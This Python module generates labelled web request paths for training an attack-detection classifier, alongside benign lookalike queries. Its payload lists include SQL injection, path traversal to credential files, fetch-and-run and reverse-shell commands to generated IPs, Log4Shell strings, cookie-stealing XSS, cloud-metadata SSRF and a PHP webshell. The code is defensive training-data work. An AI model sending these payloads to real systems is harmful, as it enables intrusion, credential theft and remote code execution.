"""Web request paths for the generator: attack payloads composed from parts, in the encodings
scanners and hand-written exploits send, and benign queries that share their words.

A fixed list of a few payloads taught the model a few token sequences (one ``UNION+SELECT``
spelling), so the same attack spelled ``%20UNION%20SELECT%20`` read as benign. Composing
injection point x payload x encoding gives the words of an attack many spellings; benign
queries with the same words (``select``, ``order by``, ``union`` in search terms, ``..`` in
relative links) keep the model from learning a keyword instead of the attack.

Benign diversity (the main cause of the false alarms on real traffic): normal requests draw
their paths and parameter values from Faker in many locales (names, street addresses, emails,
phone numbers, products, free text, ids, dates, tokens, search terms), and attacks are placed
among the same paths and beside the same ordinary parameters, so neither an unfamiliar path
nor an unfamiliar value tells an attack apart: only the payload does.
"""

from __future__ import annotations

import functools
import random
from collections.abc import Callable

from faker import Faker

from classifiers.web.decode import percent_encoded

ENDPOINTS = (
    "/products",
    "/item",
    "/search",
    "/index.php",
    "/api/v1/users",
    "/catalog/view",
    "/news.asp",
    "/report.jsp",
    "/cgi-bin/query.cgi",
    "/shop/cart",
    "/blog/post",
    "/admin/list",
)
PARAMS = ("id", "q", "page", "cat", "user", "sort", "order", "file", "name", "ref", "pid", "lang")

_SQL = (
    "{q} OR {q}1{q}={q}1",
    "{q} OR 1=1-- -",
    "{n}{q} AND 1=1--",
    "{n} AND 1=2 UNION SELECT {cols}--",
    "{n}{q} UNION SELECT {cols}-- -",
    "{n}{q} UNION ALL SELECT {cols},NULL#",
    "-{n} UNION SELECT username,password FROM users",
    "{n}{q} UNION SELECT table_name FROM information_schema.tables--",
    "{n} ORDER BY {k}--",
    "{n}{q} AND SLEEP({k})-- -",
    "{n}{q} AND (SELECT {k} FROM (SELECT(SLEEP({k})))a)--",
    "{n}; WAITFOR DELAY {q}0:0:{k}{q}--",
    "{n}{q}; DROP TABLE {table}--",
    "{n} AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
    "{n}{q} AND BENCHMARK(5000000,MD5(1))#",
    "{q}; EXEC xp_cmdshell({q}whoami{q})--",
    "admin{q}--",
    "{n}{q} or {q}a{q}={q}a",
    "{n} AND ASCII(SUBSTRING((SELECT password FROM {table} LIMIT 1),1,1))>{k}",
    "{n}) UNION SELECT @@version,{cols}--",
    "{n}{q})) AND {n}=BENCHMARK(5000000,MD5(0x{hex}))#",
    "{n}{q});(SELECT * FROM (SELECT(SLEEP({k})))x{hex})#",
    "{n}{q}) AND (SELECT {n} FROM PG_SLEEP({k}))--",
    "{n}{q} AND {n}=(SELECT {n} FROM DUAL WHERE {k}={k})-- -",
    "{n}{q} AND SUBSTRING(@@version,1,1)={q}5",
    "{n}{q}); DROP TABLE {table};--",
    "{n} UNION ALL SELECT NULL,CONCAT(0x71,{cols}),NULL-- -",
    "{n}{q} OR {q}x{q} LIKE {q}x",
    "{n}) OR ({k}={k}",
    "{q} OR 1=1 LIMIT 1#",
)
_TRAVERSAL = (
    "{up}etc{sep}passwd",
    "{up}WEB-INF{sep}web.xml",
    "{up}windows{sep}system32{sep}drivers{sep}etc{sep}hosts",
    "{up}etc{sep}shadow",
    "{up}windows{sep}win.ini",
    "{up}proc{sep}self{sep}environ",
    "{up}var{sep}www{sep}.env",
    "{up}boot.ini",
)
_UP = (
    "../",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%252f",
    "..\\",
    "..%5c",
    "%c0%ae%c0%ae/",
    "....//",
    "..%255c",
    "%252e%252e%252f",
    "..%c0%af",
    "..;/",
)
_COMMAND = (
    "{h};cat /etc/passwd",
    "{h}|id",
    "{h}&&whoami",
    "{h};uname -a",
    "$(id)",
    "`id`",
    "{h}%0Aid",
    "{h};wget http://{ip}/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
    "{h}|curl http://{ip}/s|sh",
    "${{jndi:ldap://{ip}:1389/Exploit}}",
    "${{${{lower:j}}ndi:${{lower:l}}dap://{ip}/a}}",
    "%24%7Bjndi%3Aldap%3A%2F%2F{ip}%2Fa%7D",
    "{h};nc -e /bin/sh {ip} 4444",
    "{h}`{cmd}`",
    "{h}$({cmd})",
    "{h}|{cmd}",
    "{h}||{cmd}",
    "|{cmd}",
    ";{cmd}",
    "{h}%0a{cmd}",
    "{h};{cmd}${{IFS}}-a",
    "() {{ :;}}; /bin/bash -c {q}{cmd}{q}",
)
_SHELL = (
    "id",
    "uname -a",
    "whoami",
    "cat /etc/passwd",
    "ls -la",
    "ping -c 3 {ip}",
    "sleep 5",
    "type C:\\boot.ini",
    "dir",
    "ifconfig",
)
_XSS = (
    "<script>alert({k})</script>",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "<img src=x onerror=alert({k})>",
    "%22%3E%3Csvg%2Fonload%3Dalert({k})%3E",
    "javascript:alert(document.domain)",
    "<body onload=alert({k})>",
    "%3Ciframe%20src%3Djavascript:alert({k})%3E",
    "<svg onload=alert({k})>",
    "{q}><img src=x onerror=prompt({k})>",
    "<img id=x src={q}javascript:alert({q}{k}{q})",
    "<a href={q}javascript:alert({k}){q}>x</a>",
    "<body onpageshow=alert({k})>",
    "<details open ontoggle=confirm({k})>",
    "{q}><script src=//{ip}/x.js></script>",
    "&lt;script&gt;alert({k})&lt;/script&gt;",
    "<div style={q}x:expression(alert({k})){q}>",
)
_OTHER = (
    "/index.php?page=php://filter/convert.base64-encode/resource={name}",
    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/proxy?target=file:///etc/passwd",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/?{param}=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "/wp-content/plugins/{name}/readme.txt?{param}=../../../wp-config.php",
    "/solr/admin/cores?action=CREATE&name=x&instanceDir=../../../../etc",
)
_SSRF = (
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/",
    "http://127.0.0.1:{port}/admin",
    "http://localhost:{port}/server-status",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stats",
    "http://[::1]:{port}/",
    "http://0x7f000001/",
)
PROBES = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/phpmyadmin/index.php",
    "/pma/scripts/setup.php",
    "/admin/config.php",
    "/xmlrpc.php",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/manager/html",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/config/getuser?index=0",
    "/owa/auth/logon.aspx",
    "/console/login/LoginForm.jsp",
)
_BENIGN_TERMS = (
    "select+a+plan",
    "union+square+hotels",
    "order+by+date",
    "drop+shipping",
    "sleep+tracker",
    "how+to+select+all",
    "script+writing+course",
    "password+manager+review",
    "alert+settings",
    "table+tennis",
    "from+paris+to+london",
    "cat+food",
    "union%20station",
    "select%20multiple%20rows",
    "etc%20and%20more",
)


def _encode(rng: random.Random, text: str) -> str:
    """``text`` as a scanner puts it in a URL: spaces as ``+``, ``%20`` or ``/**/``, quotes
    raw or percent-encoded, sometimes in mixed case."""
    space = rng.choice(("+", "%20", "/**/", "%20", "+"))
    quote = rng.choice(("'", "%27", "'", "%2527", '"'))
    text = text.replace("{q}", quote)
    if rng.random() < 0.2:
        text = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
    return text.replace(" ", space)


_TRAIN_LOCALES = ("en_US", "es_ES", "pt_BR", "fr_FR", "de_DE", "it_IT", "nl_NL", "pl_PL")
_PAGE_SUFFIXES = ("", "", ".php", ".jsp", ".html", ".aspx", "/", ".do")


@functools.cache
def _faker() -> Faker:
    """One Faker over the training locales (building it is slow); reseeded per draw."""
    return Faker(list(_TRAIN_LOCALES))


def _fake(rng: random.Random) -> Faker:
    fake = _faker()
    fake.seed_instance(rng.getrandbits(32))
    return fake


def ordinary_value(rng: random.Random) -> tuple[str, str]:  # noqa: C901 (one branch a kind)
    """A realistic (parameter name, decoded value) of a normal request, in a random locale."""
    fake = _fake(rng)
    kind = rng.randrange(12)
    if kind == 0:
        return rng.choice(("name", "nombre", "nom", "user", "apellidos")), fake.name()
    if kind == 1:
        return rng.choice(("email", "mail", "correo", "login")), fake.email()
    if kind == 2:
        return rng.choice(("address", "direccion", "adresse", "street")), (
            f"{fake.street_address()}, {fake.postcode()} {fake.city()}"
        )
    if kind == 3:
        return rng.choice(("phone", "tel", "telefono", "mobile")), fake.phone_number()
    if kind == 4:
        return rng.choice(("product", "item", "producto", "article")), fake.company()
    if kind == 5:
        return rng.choice(("comment", "message", "text", "note")), fake.sentence(nb_words=8)
    if kind == 6:
        return rng.choice(("id", "ref", "pid", "sku", "code")), fake.bothify(
            rng.choice(("??####", "####-??", "?#?#?#", "########"))
        )
    if kind == 7:
        return rng.choice(("date", "from", "to", "since")), fake.date()
    if kind == 8:
        return rng.choice(("token", "session", "state", "nonce")), fake.sha1()[: rng.randint(8, 40)]
    if kind == 9:
        return rng.choice(("q", "search", "query", "buscar", "s")), " ".join(
            fake.words(rng.randint(1, 3))
        )
    if kind == 10:
        return rng.choice(("city", "ciudad", "country", "zip")), fake.city()
    return rng.choice(("lang", "page", "sort", "B1", "action")), fake.word()


def _encoded_value(rng: random.Random, value: str) -> str:
    """``value`` percent-encoded as browsers send it (``+`` or ``%20`` for spaces)."""
    return percent_encoded(value, "+" if rng.random() < 0.6 else "%20")


def endpoint(rng: random.Random) -> str:
    """A request path: a known endpoint, or a realistic one in a random locale."""
    if rng.random() < 0.3:
        return rng.choice(ENDPOINTS)
    fake = _fake(rng)
    words = [percent_encoded(fake.word().lower()) for _ in range(rng.randint(1, 3))]
    return "/" + "/".join(words) + rng.choice(_PAGE_SUFFIXES)


def ordinary_query(rng: random.Random, count: int) -> list[str]:
    """``count`` encoded ``name=value`` parameters of a normal request."""
    pairs = (ordinary_value(rng) for _ in range(count))
    return [f"{name}={_encoded_value(rng, value)}" for name, value in pairs]


def _url(rng: random.Random, value: str) -> str:
    """``value`` as one parameter among ordinary ones of a realistic request."""
    params = ordinary_query(rng, rng.choice((0, 0, 1, 2)))
    params.insert(rng.randint(0, len(params)), f"{rng.choice(PARAMS)}={value}")
    return f"{endpoint(rng)}?{'&'.join(params)}"


def _ip(rng: random.Random) -> str:
    first = rng.choice((45, 91, 185, 193))
    return f"{first}.{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"


def sql_injection(rng: random.Random) -> str:
    template = rng.choice(_SQL).format(
        q="{q}",
        n=rng.randint(1, 999),
        k=rng.randint(1, 12),
        cols=",".join(
            rng.choice(("NULL", "1", "2", "user()", "database()", "version()", "password"))
            for _ in range(rng.randint(1, 4))
        ),
        table=rng.choice(("users", "accounts", "admin", "members", "orders")),
        hex=f"{rng.getrandbits(32):08x}",
    )
    return _url(rng, _encode(rng, template))


def path_traversal(rng: random.Random) -> str:
    up = rng.choice(_UP) * rng.randint(3, 8)
    sep = "/" if rng.random() < 0.7 else rng.choice(("%2f", "%5c"))
    target = rng.choice(_TRAVERSAL).format(up=up, sep=sep)
    if rng.random() < 0.4:
        return f"/{rng.choice(('static', 'images', 'cgi-bin', 'assets'))}/{target}"
    return _url(rng, target)


def command_injection(rng: random.Random) -> str:
    ip = _ip(rng)
    value = rng.choice(_COMMAND).format(
        h=rng.choice(("127.0.0.1", "localhost", "8.8.8.8", "x", "")),
        ip=ip,
        cmd=rng.choice(_SHELL).format(ip=ip),
        q="{q}",
    )
    # Shell words split on spaces or $IFS (SQL's /**/ is no shell space); "&" must be encoded
    # to stay inside the value (a raw one starts the next parameter).
    space = rng.choice(("+", "%20", "%20", "${IFS}"))
    value = value.replace("{q}", rng.choice(("'", "%27", '"'))).replace(" ", space)
    return _url(rng, value.replace("&", "%26"))


def server_side_request_forgery(rng: random.Random) -> str:
    target = rng.choice(_SSRF).format(port=rng.choice((80, 8080, 6379, 9200, 2375)))
    return _url(rng, percent_encoded(target) if rng.random() < 0.5 else target)


def cross_site_scripting(rng: random.Random) -> str:
    template = rng.choice(_XSS).format(k=rng.randint(1, 9), q="{q}", ip=_ip(rng))
    return _url(rng, _encode(rng, template).replace("&", "%26").replace("#", "%23"))


def other_exploit(rng: random.Random) -> str:
    return rng.choice(_OTHER).format(
        name=rng.choice(("config", "index", "db", "wp-file-manager")), param=rng.choice(PARAMS)
    )


def probe(rng: random.Random) -> str:
    return rng.choice(PROBES)


ATTACKS: tuple[Callable[[random.Random], str], ...] = (
    sql_injection,
    sql_injection,
    path_traversal,
    command_injection,
    cross_site_scripting,
    server_side_request_forgery,
    other_exploit,
    probe,
)


def attack_path(rng: random.Random) -> str:
    """One attack request path (SQL injection twice as likely as each other kind)."""
    return rng.choice(ATTACKS)(rng)


def benign_path(rng: random.Random) -> str:
    """A normal request path: mostly a realistic page with ordinary parameters in many
    locales, sometimes a query whose words an attack also uses."""
    roll = rng.random()
    if roll < 0.55:
        return f"{endpoint(rng)}?{'&'.join(ordinary_query(rng, rng.randint(1, 4)))}"
    if roll < 0.65:
        return f"/search?q={rng.choice(_BENIGN_TERMS)}&page={rng.randint(1, 9)}"
    if roll < 0.75:
        return f"{endpoint(rng)}?{rng.choice(PARAMS)}={rng.randint(1, 99999)}"
    if roll < 0.8:
        return (
            f"{rng.choice(ENDPOINTS)}?sort={rng.choice(('price', 'name', 'date'))}"
            f"&order={rng.choice(('asc', 'desc'))}&limit={rng.choice((10, 20, 50))}"
        )
    if roll < 0.85:
        return f"/static/{rng.choice(('css', 'js', 'fonts'))}/../img/icon-{rng.randint(1, 64)}.png"
    if roll < 0.93:
        return endpoint(rng)
    page = rng.choice(("select", "union", "joins", "scripts", "errors"))
    return f"/docs/{rng.choice(('sql', 'api', 'guide'))}/{page}.html"
